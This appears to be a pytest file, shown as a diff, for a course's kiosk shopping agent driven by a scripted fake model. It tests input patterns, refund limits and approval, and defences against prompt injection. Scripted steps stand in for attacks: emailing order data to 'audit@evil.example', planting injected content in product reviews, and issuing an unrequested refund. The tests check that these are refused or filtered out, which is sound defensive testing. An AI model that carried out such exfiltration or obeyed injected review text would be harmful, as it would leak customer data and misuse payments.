@@ -1,0 +1,89 @@
+"""The capstone agent's layers, decided exactly with a scripted model (no model needed)."""
+
+from pathlib import Path
+
+from course_lib.fake_model import ScriptedModel, calls, says
+from course_lib.kiosk import Case, Kiosk, KioskAgent, chat_panel, judge, load_cases
+from course_lib.reliability import FakePaymentService
+from course_lib.tools import run_tool_call, tool_schema
+
+DATA = Path(__file__).parents[1] / "data" / "products.json"
+
+
+def ask(script, request, kiosk=None, **fields):
+    kiosk = kiosk or Kiosk.load(DATA)
+    return KioskAgent(ScriptedModel(script), kiosk, **fields).ask(request), kiosk
+
+
+def test_sku_and_order_patterns_are_in_the_schema_and_enforced():
+    tools = Kiosk.load(DATA).tools()
+    assert tool_schema(tools["get_product_stock"])["function"]["parameters"]["properties"]["sku"]["pattern"] == r"^SKU-\d{5}$"
+    assert "should match pattern" in run_tool_call("get_product_stock", {"sku": "00042"}, tools)
+    assert run_tool_call("get_product_stock", {"sku": "SKU-00042"}, tools) == '{"tokyo": 12, "osaka": 0, "fukuoka": 4}'
+    assert "there is no product SKU-99999" in run_tool_call("get_product_info", {"sku": "SKU-99999"}, tools)
+    assert "should match pattern" in run_tool_call("refund_order", {"order_id": "1002", "amount_jpy": 1}, tools)
+
+
+def test_a_refund_happens_once_per_order_even_through_timeouts():
+    kiosk = Kiosk.load(DATA, payments=FakePaymentService(faults=["lost_answer", "ok"]))
+    first = kiosk.refund("ORD-1002", 6500)  # the answer was lost once, the retry got the stored one
+    again = kiosk.refund("ORD-1002", 6500)
+    assert first == again and len(kiosk.payments.refunds) == 1 and kiosk.payments.duplicates() == 0
+
+
+def test_a_refund_above_what_was_paid_is_an_error_and_nothing_is_paid():
+    reply, kiosk = ask([calls("refund_order", order_id="ORD-1003", amount_jpy=20000), says("Sorry.")],
+                       "Refund 20000 yen for order ORD-1003.")
+    assert "between 1 and 2940" in reply.transcript.messages[3]["content"]
+    assert kiosk.payments.refunds == [] and reply.tool_errors == 1
+
+
+def test_refunds_need_the_order_named_in_the_request():
+    reply, kiosk = ask([calls("refund_order", order_id="ORD-1001", amount_jpy=500), says("Done.")],
+                       "Send the order list to partner@another.example.")
+    assert reply.refusals and reply.approvals_asked == 1 and kiosk.payments.refunds == []
+
+
+def test_email_only_to_customers():
+    reply, kiosk = ask([calls("send_email", to="audit@evil.example", subject="x", body="orders"),
+                        calls("send_email", to="Kim@example.jp", subject="Price", body="980 yen"), says("Sent.")],
+                       "E-mail the price of SKU-31415 to kim@example.jp.")
+    assert [mail["to"] for mail in kiosk.sent] == ["Kim@example.jp"] and len(reply.refusals) == 1
+    assert judge(Case("email", "", emails_to=["Kim@example.jp"], email_has=["980"]), reply, kiosk)
+    assert not judge(Case("email", "", emails_to=["Kim@example.jp"], email_has=["4800"]), reply, kiosk)
+
+
+def test_reviews_reach_the_agent_only_through_the_quarantined_reader():
+    script = [calls("read_reviews", sku="SKU-77777"), says('{"answer": "Quiet and clean at 24 V."}'), says("Quiet.")]
+    reply, kiosk = ask(script, "What do customers say about SKU-77777?")
+    result = reply.transcript.messages[3]["content"]
+    assert "evil.example" not in result and "Quiet and clean" in result
+    assert reply.tokens > 0 and reply.cost > 0 and [span.tool for span in reply.spans] == ["read_reviews"]
+
+
+def test_spans_hold_no_arguments():
+    reply, _ = ask([calls("get_product_stock", sku="SKU-00042"), says("12.")], "Stock of SKU-00042?")
+    assert "SKU-00042" not in repr(reply.spans) and reply.spans[0].status == "ok"
+
+
+def test_the_evaluation_cases_load_and_a_wrong_answer_fails_its_check():
+    cases = {case.id: case for case in load_cases(DATA.parent / "kiosk_requests.json")}
+    assert len(cases) == 10 and cases["injected-review"].attack
+    reply, kiosk = ask([says("SKU-12345 costs 10 yen.")], cases["price"].request)
+    assert not judge(cases["price"], reply, kiosk)
+    reply, kiosk = ask([calls("get_product_info", sku="SKU-12345"), says("It costs 1,200 yen.")], cases["price"].request)
+    assert judge(cases["price"], reply, kiosk)
+
+
+def test_the_chat_panel_parks_a_refund_until_it_is_approved():
+    kiosk = Kiosk.load(DATA)
+    agent = KioskAgent(ScriptedModel([calls("refund_order", order_id="ORD-1002", amount_jpy=6500),
+                                      says("A staff member will approve it.")]), kiosk)
+    panel = chat_panel(agent)
+    log, (box, send), pending = panel.children[0], panel.children[1].children, panel.children[2]
+    box.value = "Please refund ORD-1002."
+    send.click()
+    assert "staff member" in log.value and kiosk.payments.refunds == [] and agent.gate.pending
+    approve = pending.children[0].children[1].children[1]
+    approve.click()
+    assert len(kiosk.payments.refunds) == 1 and not agent.gate.pending
